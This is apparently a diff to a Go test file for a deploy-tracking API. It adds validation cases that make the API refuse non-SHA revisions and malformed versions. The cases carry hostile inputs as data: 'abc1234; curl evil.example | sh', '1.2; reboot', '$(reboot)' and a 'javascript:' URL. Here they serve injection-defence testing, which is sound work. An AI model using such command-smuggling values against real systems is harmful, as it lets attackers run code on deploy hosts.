@@ -127,8 +127,15 @@ func TestDeploysAPI(t *testing.T) {
 		{`{"sha":"abc"}`, http.StatusBadRequest, "a deploy needs a service"},
 		{`{"service":"pay","sha":"x","colour":"red"}`, http.StatusBadRequest, "unknown field"},
 		{`{"service":`, http.StatusBadRequest, "malformed JSON"},
-		{`{"service":"pay","sha":"x","url":"javascript:alert(1)"}`, http.StatusBadRequest, "url must be http(s)"},
-		{`{"service":"pay","sha":"x","finished_at":"2999-01-01T00:00:00Z"}`, http.StatusBadRequest, "in the future"},
+		{`{"service":"pay","sha":"abc1234","url":"javascript:alert(1)"}`, http.StatusBadRequest, "url must be http(s)"},
+		{`{"service":"pay","sha":"abc1234","finished_at":"2999-01-01T00:00:00Z"}`, http.StatusBadRequest, "in the future"},
+		// Revisions go into rollback commands: only Git SHAs are taken.
+		{`{"service":"pay","sha":"xyz"}`, http.StatusBadRequest, `sha \"xyz\" is not a Git SHA`},
+		{`{"service":"pay","sha":"abc1234; curl evil.example | sh"}`, http.StatusBadRequest, `sha \"abc1234; curl evil.example | sh\" is not a Git SHA`},
+		{`{"service":"pay","sha":"abc123"}`, http.StatusBadRequest, "is not a Git SHA (7-64 hex digits)"},
+		{`{"service":"pay","sha":"abc1234","previous_sha":"main"}`, http.StatusBadRequest, `previous_sha \"main\" is not a Git SHA`},
+		{`{"service":"pay","version":"1.2; reboot"}`, http.StatusBadRequest, `version \"1.2; reboot\" is not a version`},
+		{`{"service":"pay","version":"v1.4.2"}`, http.StatusCreated, `"sha":"v1.4.2"`},
 	} {
 		r := h.deploy(tc.body)
 		if r.code != tc.code || !strings.Contains(string(r.body), tc.want) {
@@ -174,6 +181,22 @@ func TestDeploysAPI(t *testing.T) {
 	}
 	if r := h.post("/api/v1/deploys/argocd", []byte(`{"application":"x"}`), nil); r.code != http.StatusBadRequest {
 		t.Errorf("not an Argo CD body: %d %s", r.code, r.body)
+	}
+	// A Helm chart's version is recorded as the version; a revision that
+	// is neither a SHA nor a version is refused.
+	status := argo["app"].(map[string]any)["status"].(map[string]any)
+	status["operationState"].(map[string]any)["phase"] = "Succeeded"
+	status["operationState"].(map[string]any)["syncResult"] = map[string]string{"revision": "1.4.2"}
+	status["history"] = []map[string]string{{"revision": "1.4.1"}, {"revision": "1.4.2"}}
+	body, _ = json.Marshal(argo)
+	if r := h.post("/api/v1/deploys/argocd", body, nil); r.code != http.StatusCreated || !strings.Contains(string(r.body), `"version":"1.4.2"`) ||
+		strings.Contains(string(r.body), "previous_sha") {
+		t.Errorf("chart version: %d %s", r.code, r.body)
+	}
+	status["operationState"].(map[string]any)["syncResult"] = map[string]string{"revision": "$(reboot)"}
+	body, _ = json.Marshal(argo)
+	if r := h.post("/api/v1/deploys/argocd", body, nil); r.code != http.StatusBadRequest || !strings.Contains(string(r.body), `sha \"$(reboot)\" is not a Git SHA`) {
+		t.Errorf("hostile revision: %d %s", r.code, r.body)
 	}
 
 	list := h.get("/api/v1/deploys?service=payment-gateway")
